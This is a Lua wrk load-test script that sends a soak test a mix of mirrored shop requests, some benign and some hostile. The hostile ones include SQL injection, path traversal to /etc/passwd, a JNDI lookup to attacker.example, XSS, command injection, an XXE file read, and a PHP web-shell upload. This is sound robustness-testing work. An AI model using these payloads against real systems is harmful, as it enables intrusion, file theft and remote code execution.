-- wrk script for the soak (tests/e2e/soak.py): a fixed mix of mirrored-looking requests, benign
-- and hostile, each thread cycling through them. Copies carry the -shadow host and the server
-- headers, as the front's mirror policy sends them.
local mix = {}
local i = 0

local function add(method, path, headers, body)
  local h = {
    ["Host"] = "shop.example-shadow",
    ["x-server-addr"] = "10.0.0.7",
    ["x-server-port"] = "8080",
    ["x-forwarded-for"] = "198.51.100.23, 127.0.0.1",
    ["user-agent"] = "soak/1",
  }
  for k, v in pairs(headers or {}) do h[k] = v end
  mix[#mix + 1] = wrk.format(method, path, h, body)
end

add("GET", "/products?id=42&sort=price")
add("GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--")
add("GET", "/download?file=../../../../etc/passwd")
add("GET", "/", { ["x-api-version"] = "${jndi:ldap://attacker.example/a}" })
add("GET", "/p%c3%28%ff?q=%ff%fe%c0%af", { ["x-bin"] = "\255\254\253", ["cookie"] = "s=\255; t=%c0%ae" })
add("POST", "/comment", { ["content-type"] = "application/x-www-form-urlencoded" },
    "text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&name=bob")
add("POST", "/api/cart", { ["content-type"] = "application/json" }, '{"item": 42, "qty": 2, "note": "gift wrap, please"}')
add("POST", "/api/ping", { ["content-type"] = "application/json" }, '{"host": "127.0.0.1; cat /etc/passwd", "a": [1, {"b": "<img src=x onerror=alert(1)>"}]}')
add("POST", "/api/deep", { ["content-type"] = "application/json" }, string.rep("[", 2000) .. '"x"' .. string.rep("]", 2000))
add("POST", "/xml", { ["content-type"] = "application/xml" },
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><a>&x;</a></r>')
add("POST", "/upload", { ["content-type"] = "multipart/form-data; boundary=XyZ" },
    '--XyZ\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php system($_GET["c"]); ?>\r\n--XyZ--\r\n')
add("POST", "/upload-cut", { ["content-type"] = "multipart/form-data; boundary=XyZ" }, '--XyZ\r\nContent-Disposition: form-data; name="f"\r\n\r\nabc')
add("POST", "/lie", { ["content-type"] = "application/json" }, "<a>not json</a>")
add("POST", "/big", { ["content-type"] = "application/octet-stream" }, string.rep("0123456789abcdef", 12288)) -- 192 KiB: truncated
add("GET", "/search?" .. string.rep("a=1&", 1000) .. "q=%27%20or%201%3D1--")

request = function()
  i = i % #mix + 1
  return mix[i]
end
